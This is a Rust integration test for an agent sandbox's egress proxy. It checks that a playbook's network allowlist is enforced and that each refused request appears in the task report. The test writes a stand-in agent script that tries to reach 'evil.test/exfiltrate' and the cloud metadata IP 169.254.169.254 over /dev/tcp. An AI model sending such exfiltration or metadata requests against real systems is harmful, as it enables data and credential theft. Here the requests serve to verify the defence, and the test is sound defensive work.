//! A playbook's network allowlist end to end: the agent reaches the egress proxy only, names
//! off the list are refused, and every decision lands in the task's report.

use std::time::Duration;

use serde_json::json;
use tests::{Errand, FIX_ADD, Remote, UpOptions, repo_root};

const RUN: Duration = Duration::from_secs(120);

/// The shipped fix-failing-test playbook, allowed to reach one registry.
const PLAYBOOK: &str = "\
name: fix-with-registry
description: Fix a failing test; may reach the package registry.
outcome: The test passes.
inputs:
  test:
    description: The failing test command.
procedure: The test command `{{test}}` fails; fix the code.
boundary:
  network: [registry.test, pypi.org:8443]
verification:
  checks: ['{{test}}']
budget:
  max_rounds: 1
  time_per_round_secs: 60
";

#[tokio::test]
async fn the_playbook_allowlist_reaches_the_sandbox_and_the_report() -> anyhow::Result<()> {
    let playbooks = tempfile::tempdir()?;
    std::fs::copy(
        repo_root().join("playbooks/schema.json"),
        playbooks.path().join("schema.json"),
    )?;
    std::fs::write(playbooks.path().join("fix-with-registry.yaml"), PLAYBOOK)?;
    let errand = Errand::up_with(UpOptions {
        playbooks_dir: Some(playbooks.path().to_owned()),
        ..UpOptions::default()
    })
    .await?;
    let remote = Remote::calculator()?;
    // bash for /dev/tcp: the sandbox has no network tools, only the proxy at $http_proxy.
    let agent = errand.data_dir.path().join("fetch-then-fix.sh");
    std::fs::write(
        &agent,
        format!(
            r#"#!/bin/bash
set -u
request() {{
  exec 3<>/dev/tcp/127.0.0.1/3128 || {{ echo "no proxy"; return; }}
  printf '%s\r\nHost: x\r\n\r\n' "$1" >&3
  head -n 1 <&3; exec 3<&-
}}
echo "proxy is $http_proxy"
request "CONNECT registry.test:443 HTTP/1.1"
request "GET http://evil.test/exfiltrate HTTP/1.1"
request "CONNECT 169.254.169.254:443 HTTP/1.1"
{FIX_ADD}
"#
        ),
    )?;
    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let run = json!({
        "repo": remote.path().display().to_string(),
        "inputs": {"test": "sh test.sh"},
        "agent": {"kind": "command", "command": [agent.display().to_string()]},
        "requester": "alice",
    });
    let answer = errand
        .post_ok("/v1/playbooks/fix-with-registry/runs", run, None)
        .await?;
    let id = answer["id"].as_str().unwrap_or_default().to_string();
    let task = errand.wait_for_status(&id, "awaiting_review", RUN).await?;
    let output = task["rounds"][0]["agent"]["output_tail"]
        .as_str()
        .unwrap_or_default();
    assert!(
        output.contains("proxy is http://127.0.0.1:3128"),
        "{output}"
    );
    // The allowed name gets past the name check (and cannot resolve on this closed host: 502);
    // the others are refused by the proxy itself (403).
    assert_eq!(output.matches("502 Bad Gateway").count(), 1, "{output}");
    assert_eq!(output.matches("403 Forbidden").count(), 2, "{output}");

    let response = errand
        .get_raw(&format!("/v1/tasks/{id}/report"), &[])
        .await?;
    assert_eq!(response.status(), 200);
    let report = response.text().await?;
    assert!(
        report.contains("Network: 3 request(s) through the egress proxy, 3 refused"),
        "{report}"
    );
    assert!(
        report.contains("- resolution_failed `registry.test:443`"),
        "{report}"
    );
    assert!(
        report.contains("- not_allowlisted `evil.test:80`"),
        "{report}"
    );
    assert!(
        report.contains("- ip_literal `169.254.169.254:443`"),
        "{report}"
    );
    Ok(())
}
